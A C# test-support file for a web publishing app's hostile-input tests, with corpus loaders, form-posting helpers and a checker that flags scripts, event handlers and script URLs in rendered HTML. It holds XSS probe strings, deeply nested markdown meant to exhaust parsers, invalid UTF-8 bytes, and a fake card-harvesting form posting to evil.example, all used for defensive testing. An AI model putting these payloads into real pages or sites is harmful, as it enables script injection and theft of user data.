using System.Globalization;
using System.Net;
using System.Text;
using AngleSharp.Dom;
using AngleSharp.Html.Dom;
using Masthead.Tests.Infrastructure;

namespace Masthead.Tests.Hostile;

/// <summary>One hostile input, named by where it comes from (e.g. "markup.txt:12") so a failure says which one.</summary>
public sealed record Entry(string Name, string Text)
{
    /// <summary>At most <paramref name="length"/> characters, for fields whose length limit is not what the entry tests.</summary>
    public string Cut(int length) => Text.Length <= length ? Text : Text[..length];

    public override string ToString() => Name;
}

/// <summary>
/// The hostile-input corpus: the text files beside this class (one entry a line, see markup.txt) and the cases that
/// cannot be written in a text file (deep nesting, enormous bodies, invalid UTF-8), built here.
/// </summary>
public static class Corpus
{
    public static IReadOnlyList<Entry> Markup { get; } = Load("markup");

    public static IReadOnlyList<Entry> Sql { get; } = Load("sql");

    public static IReadOnlyList<Entry> Text { get; } = Load("text");

    public static IReadOnlyList<Entry> Amounts { get; } = Load("amounts");

    public static IReadOnlyList<Entry> Dates { get; } = Load("dates");

    public static IReadOnlyList<Entry> FileNames { get; } = Load("filenames");

    /// <summary>Every text entry that is typed into names, headlines and bodies.</summary>
    public static IReadOnlyList<Entry> Typed { get; } = [.. Markup, .. Sql, .. Text];

    /// <summary>Markdown that is deeply nested or enormous; each within the body limit unless its name says otherwise.</summary>
    public static IReadOnlyList<Entry> HeavyMarkdown { get; } =
    [
        new("nested blockquotes ×10000", new string('>', 10_000) + " deep"),
        new("nested lists ×5000", string.Concat(Enumerable.Range(0, 5_000).Select(i => new string(' ', Math.Min(i * 2, 60)) + "- item\n"))),
        new("list markers on one line ×20000", string.Concat(Enumerable.Repeat("- ", 20_000)) + "x"),
        new("open brackets ×100000", new string('[', 100_000)),
        new("links in links ×5000", string.Concat(Enumerable.Repeat("[", 5_000)) + "x" + string.Concat(Enumerable.Repeat("](javascript:alert(1))", 5_000))),
        new("nested emphasis ×20000", string.Concat(Enumerable.Repeat("*_", 20_000)) + "x" + string.Concat(Enumerable.Repeat("_*", 20_000))),
        new("nested html divs ×20000", string.Concat(Enumerable.Repeat("<div>", 20_000)) + "<script>alert(1)</script>"),
        new("nested html spans with handlers ×10000", string.Concat(Enumerable.Repeat("<span onclick=alert(1)>", 10_000)) + "x"),
        new("backticks ×100000", new string('`', 100_000)),
        new("table of 2000 columns", "|" + string.Concat(Enumerable.Repeat(" a |", 2_000)) + "\n|" + string.Concat(Enumerable.Repeat("---|", 2_000)) + "\n|" + string.Concat(Enumerable.Repeat(" <img src=x onerror=alert(1)> |", 2_000))),
        new("footnotes ×3000", string.Concat(Enumerable.Range(0, 3_000).Select(i => $"x[^{i}] ")) + "\n\n" + string.Concat(Enumerable.Range(0, 3_000).Select(i => $"[^{i}]: <a href=javascript:alert({i})>n</a>\n"))),
        new("one word of 199999 letters", new string('a', 199_999)),
        new("body at the limit of 200000", new string('b', 199_990) + "<script>"),
        new("body over the limit (200001)", new string('c', 200_001)),
        new("a million characters", new string('d', 1_000_000)),
        new("unclosed link openers ×50000 (200 KB)", string.Concat(Enumerable.Repeat("[a](", 50_000))),
        new("unclosed marks ×16000", string.Concat(Enumerable.Repeat("==a", 16_000))),
        new("unclosed image openers in short paragraphs ×20000", string.Concat(Enumerable.Repeat("![a](\n\n", 20_000))),
        new("a form with card fields", "<form action=\"https://evil.example/card\"><input name=\"card\"><select name=\"m\"><option>1</option></select><textarea name=\"t\"></textarea><button>Pay</button></form>"),
    ];

    /// <summary>Byte sequences that are not UTF-8 (or are forbidden in it), sent as raw bytes in form fields.</summary>
    public static IReadOnlyList<(string Name, byte[] Bytes)> BadUtf8 { get; } =
    [
        ("lone continuation byte", [0x41, 0x80, 0x42]),
        ("truncated two-byte sequence", [0x41, 0xC3]),
        ("invalid second byte", [0xC3, 0x28]),
        ("0xFF and 0xFE", [0xFF, 0xFE, 0x41]),
        ("overlong slash", [0xC0, 0xAF, 0x2E, 0x2E]),
        ("overlong NUL", [0xC0, 0x80, 0x41]),
        ("UTF-16 surrogate encoded in UTF-8", [0xED, 0xA0, 0x80, 0x41]),
        ("beyond U+10FFFF", [0xF4, 0x90, 0x80, 0x80]),
        ("five-byte sequence", [0xF8, 0x88, 0x80, 0x80, 0x80]),
        ("raw NUL", [0x41, 0x00, 0x42]),
        ("raw escape and bell", [0x1B, 0x5B, 0x33, 0x31, 0x6D, 0x07, 0x41]),
        ("raw DEL and C1", [0x7F, 0xC2, 0x85, 0x41]),
        ("Latin-1 text", Encoding.Latin1.GetBytes("Café crème — naïve")),
        ("UTF-16LE text with BOM", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<script>alert(1)</script>")]),
        ("UTF-8 script after invalid bytes", [0xFF, .. Encoding.UTF8.GetBytes("<script>alert(1)</script>")]),
    ];

    /// <summary>The corpus file <c>Hostile/corpus/{category}.txt</c>, copied beside the tests.</summary>
    public static IReadOnlyList<Entry> Load(string category)
    {
        var path = Path.Combine(AppContext.BaseDirectory, "Hostile", "corpus", category + ".txt");
        var entries = new List<Entry>();
        var lines = File.ReadAllLines(path, Encoding.UTF8);
        for (var i = 0; i < lines.Length; i++)
        {
            if (lines[i].Length > 0 && !lines[i].StartsWith("#!", StringComparison.Ordinal))
            {
                entries.Add(new Entry($"{category}.txt:{i + 1}", Decode(lines[i])));
            }
        }

        return entries;
    }

    /// <summary>Reads the escapes a corpus line may use: \n \r \t \0 \\ and \uXXXX.</summary>
    public static string Decode(string line)
    {
        ArgumentNullException.ThrowIfNull(line);
        var text = new StringBuilder(line.Length);
        for (var i = 0; i < line.Length; i++)
        {
            if (line[i] != '\\' || i + 1 == line.Length)
            {
                text.Append(line[i]);
                continue;
            }

            var next = line[++i];
            switch (next)
            {
                case 'n': text.Append('\n'); break;
                case 'r': text.Append('\r'); break;
                case 't': text.Append('\t'); break;
                case '0': text.Append('\0'); break;
                case '\\': text.Append('\\'); break;
                case 'u' when i + 4 < line.Length && ushort.TryParse(line.AsSpan(i + 1, 4), NumberStyles.HexNumber, CultureInfo.InvariantCulture, out var code):
                    text.Append((char)code);
                    i += 4;
                    break;
                default: text.Append('\\').Append(next); break;
            }
        }

        return text.ToString();
    }

    /// <summary>An application/x-www-form-urlencoded body whose values are raw bytes, percent-encoded as a browser would send them.</summary>
    public static ByteArrayContent RawForm(IEnumerable<KeyValuePair<string, byte[]>> fields)
    {
        var body = new StringBuilder();
        foreach (var (name, value) in fields)
        {
            if (body.Length > 0)
            {
                body.Append('&');
            }

            body.Append(Uri.EscapeDataString(name)).Append('=');
            foreach (var b in value)
            {
                body.Append(b is >= (byte)'a' and <= (byte)'z' or >= (byte)'A' and <= (byte)'Z' or >= (byte)'0' and <= (byte)'9' ? (char)b : $"%{b:X2}");
            }
        }

        var content = new ByteArrayContent(Encoding.ASCII.GetBytes(body.ToString()));
        content.Headers.ContentType = new("application/x-www-form-urlencoded");
        return content;
    }

    /// <summary>
    /// Posts raw-byte <paramref name="fields"/> to the form on <paramref name="pageUrl"/> with its antiforgery token,
    /// through the same helper as every other form post (<see cref="Forms"/>), so one place adapts them all.
    /// </summary>
    public static async Task<HttpResponseMessage> PostRawFormAsync(
        HttpClient client, string pageUrl, IEnumerable<KeyValuePair<string, byte[]>> fields, string? postUrl = null)
    {
        var page = await Html.GetPageAsync(client, pageUrl);
        var token = Html.AntiforgeryToken(page, pageUrl, postUrl)!;
        using var content = RawForm([.. fields, new(Html.AntiforgeryField, Encoding.ASCII.GetBytes(token))]);
        return await client.PostAsync(Html.ToUri(postUrl ?? pageUrl), content);
    }

    public static KeyValuePair<string, byte[]> Field(string name, string value) => new(name, Encoding.UTF8.GetBytes(value));
}

/// <summary>What must never survive into a page: script, event handlers, script URLs, frames, or a base address.</summary>
public static class Safety
{
    private static readonly string[] UrlAttributes = ["href", "src", "action", "formaction", "xlink:href", "data", "background", "poster", "srcdoc"];

    /// <summary>Everything wrong with <paramref name="document"/>, as short descriptions; empty when it is safe.</summary>
    public static List<string> Problems(IHtmlDocument document)
    {
        ArgumentNullException.ThrowIfNull(document);
        var problems = new List<string>();
        foreach (var element in document.All)
        {
            var tag = element.LocalName;
            if (tag == "script" && !IsJsonLd(element) && !IsOwnScript(element))
            {
                problems.Add($"a <script> element: {Short(element.OuterHtml)}");
            }

            if (tag is "iframe" or "object" or "embed" or "base" or "frame" or "frameset" || (tag == "meta" && element.HasAttribute("http-equiv")))
            {
                problems.Add($"a <{tag}> element");
            }

            foreach (var attribute in element.Attributes)
            {
                if (attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase))
                {
                    problems.Add($"an event handler {attribute.Name}=\"{Short(attribute.Value)}\" on <{tag}>");
                }
                else if (UrlAttributes.Contains(attribute.Name, StringComparer.OrdinalIgnoreCase) && IsScriptUrl(attribute.Value))
                {
                    problems.Add($"a script URL in {attribute.Name}=\"{Short(attribute.Value)}\" on <{tag}>");
                }
                else if (attribute.Name.Equals("style", StringComparison.OrdinalIgnoreCase) && attribute.Value.Contains("javascript:", StringComparison.OrdinalIgnoreCase))
                {
                    problems.Add($"a script URL in a style on <{tag}>");
                }
            }
        }

        return problems;
    }

    /// <summary>Problems in an HTML fragment, e.g. an article body as stored.</summary>
    public static List<string> ProblemsInFragment(string html) => Problems(Html.Parse($"<!doctype html><html><body>{html}</body></html>"));

    /// <summary>javascript:, vbscript: or data: once the browser has dropped what it ignores (whitespace and control characters).</summary>
    public static bool IsScriptUrl(string value)
    {
        var squeezed = new string(WebUtility.HtmlDecode(value ?? "").Where(c => c > ' ' && c != '\u007f').ToArray());
        var refresh = squeezed.IndexOf("url=", StringComparison.OrdinalIgnoreCase);
        if (refresh >= 0)
        {
            squeezed = squeezed[(refresh + 4)..];
        }

        return squeezed.StartsWith("javascript:", StringComparison.OrdinalIgnoreCase)
            || squeezed.StartsWith("vbscript:", StringComparison.OrdinalIgnoreCase)
            || squeezed.StartsWith("data:text/html", StringComparison.OrdinalIgnoreCase);
    }

    /// <summary>Characters that must not be stored: C0 controls other than tab, line feed and carriage return, and DEL.</summary>
    public static bool HasControlCharacters(string? text) =>
        text is not null && text.Any(c => (c < ' ' && c is not ('\t' or '\n' or '\r')) || c == '\u007f');

    /// <summary>The site's own files, /reader.js and /admin.js, with nothing inline.</summary>
    private static bool IsOwnScript(IElement script) =>
        script.GetAttribute("src") is "/reader.js" or "/admin.js" && script.TextContent.Length == 0;

    private static bool IsJsonLd(IElement script)
    {
        if (script.GetAttribute("type") != "application/ld+json")
        {
            return false;
        }

        try
        {
            using var json = System.Text.Json.JsonDocument.Parse(script.TextContent);
            return true;
        }
        catch (System.Text.Json.JsonException)
        {
            return false;
        }
    }

    private static string Short(string text) => text.Length <= 80 ? text : text[..80] + "…";
}

/// <summary>Collects what went wrong for which entry, so one test over many entries reports every failure at once.</summary>
public sealed class Failures
{
    private readonly List<string> _lines = [];
    private readonly Lock _lock = new();

    public int Checked { get; private set; }

    public void Add(string entry, string what)
    {
        lock (_lock)
        {
            _lines.Add($"{entry}: {what}");
        }
    }

    /// <summary>Notes one more entry checked.</summary>
    public void Count()
    {
        lock (_lock)
        {
            Checked++;
        }
    }

    /// <summary>The status is one of <paramref name="allowed"/>; otherwise a failure naming the entry, the status and the page's message.</summary>
    public async Task<bool> ExpectStatusAsync(string entry, string where, HttpResponseMessage response, params HttpStatusCode[] allowed)
    {
        ArgumentNullException.ThrowIfNull(response);
        if (allowed.Contains(response.StatusCode))
        {
            return true;
        }

        var body = await response.Content.ReadAsStringAsync();
        Add(entry, $"{where} answered {(int)response.StatusCode} {response.StatusCode}. {Html.Messages(body)}");
        return false;
    }

    /// <summary>
    /// A urlencoded form with a NUL byte is refused whole before any page sees it (<c>Web/UnreadableForms</c>): a 400 whose
    /// page says why. True when <paramref name="text"/> has one and that is what happened; false when it has none.
    /// </summary>
    public async Task<bool> RefusedAsUnreadableAsync(string entry, string where, string text, HttpResponseMessage response)
    {
        ArgumentNullException.ThrowIfNull(response);
        if (!text.Contains('\0', StringComparison.Ordinal))
        {
            return false;
        }

        var body = await response.Content.ReadAsStringAsync();
        if (response.StatusCode != HttpStatusCode.BadRequest || !body.Contains("cannot be read", StringComparison.Ordinal))
        {
            Add(entry, $"{where} with a NUL answered {(int)response.StatusCode} without saying the form could not be read. {Html.Messages(body)}");
        }

        return true;
    }

    public void ExpectSafe(string entry, string where, IHtmlDocument document)
    {
        foreach (var problem in Safety.Problems(document))
        {
            Add(entry, $"{where} has {problem}");
        }
    }

    public void AssertNone(int atLeast = 1)
    {
        lock (_lock)
        {
            Assert.True(_lines.Count == 0, $"{_lines.Count} failures:\n" + string.Join("\n", _lines.Take(60)));
            Assert.True(Checked >= atLeast, $"Only {Checked} entries were checked, expected at least {atLeast}.");
        }
    }
}
